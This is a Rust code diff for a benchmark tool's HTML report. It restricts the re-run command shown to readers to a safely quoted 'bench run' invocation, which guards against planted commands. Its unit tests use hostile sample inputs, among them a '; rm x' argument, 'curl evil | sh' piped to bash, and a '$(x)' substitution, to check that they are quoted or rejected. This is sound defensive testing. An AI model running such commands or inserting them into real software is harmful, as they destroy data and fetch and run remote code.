@@ -24,13 +24,18 @@ pub(super) fn body(view: &View<'_>) -> String {
     let runs = runs(view);
     out.push_str(&heading("Measure it again"));
     for run in &runs {
+        let name = escape(&view.names.name(&run.path));
+        let Some(command) = again(&run.context.command_line) else {
+            let what = "what it was started with is no <code>bench run</code>, and is not shown";
+            let _ = write!(out, "<p class=\"note\">{name}: {what}</p>");
+            continue;
+        };
         let _ = write!(
             out,
-            "<p class=\"note\">{}, seed {}, build {}:</p><pre tabindex=\"0\"><code>{}</code></pre>",
-            escape(&view.names.name(&run.path)),
+            "<p class=\"note\">{name}, seed {}, build {}:</p><pre tabindex=\"0\"><code>{}</code></pre>",
             run.context.seed,
             escape(&run.context.bench.build_id),
-            escape(&shell(&run.context.command_line))
+            escape(&command)
         );
     }
     if !view.command.is_empty() {
@@ -126,6 +131,14 @@ fn pairs(engine: &EngineContext) -> Vec<(String, String)> {
     memory.into_iter().chain(switches).chain(others).collect()
 }
 
+/// The command that measures the same again. Whoever made the folder chose its words, and whoever reads the page copies it into a shell:
+/// it is this program that is called, wherever the recorded one was, and to run.
+fn again(words: &[String]) -> Option<String> {
+    let (_, arguments) = words.split_first()?;
+    let verb = arguments.iter().find(|word| !word.starts_with('-'))?;
+    (verb == "run").then(|| shell(&[&["bench".to_owned()], arguments].concat()))
+}
+
 /// A command line that a shell reads as these words.
 fn shell(words: &[String]) -> String {
     let plain = |c: char| c.is_ascii_alphanumeric() || "-_./=,:@%+".contains(c);
@@ -144,5 +157,15 @@ mod tests {
     fn words_reach_a_shell_as_they_are() {
         let words = ["bench", "run", "--out", "my runs/$(x)", "it's", ""].map(str::to_owned);
         assert_eq!(shell(&words), "bench run --out 'my runs/$(x)' 'it'\\''s' ''");
+    }
+
+    #[test]
+    fn only_this_program_is_called_again_and_only_to_run() {
+        let again = |words: &[&str]| again(&words.iter().map(|w| (*w).to_owned()).collect::<Vec<_>>());
+        assert_eq!(again(&["/x/bench", "-v", "run", "--suite", "1gb"]).as_deref(), Some("bench -v run --suite 1gb"));
+        assert_eq!(again(&["/tmp/evil", "run", "; rm x"]).as_deref(), Some("bench run '; rm x'"));
+        for words in [&["bash", "-c", "curl evil | sh"][..], &["bench", "data", "rm", "x"], &["bench"], &[]] {
+            assert_eq!(again(words), None, "{words:?}");
+        }
     }
 }
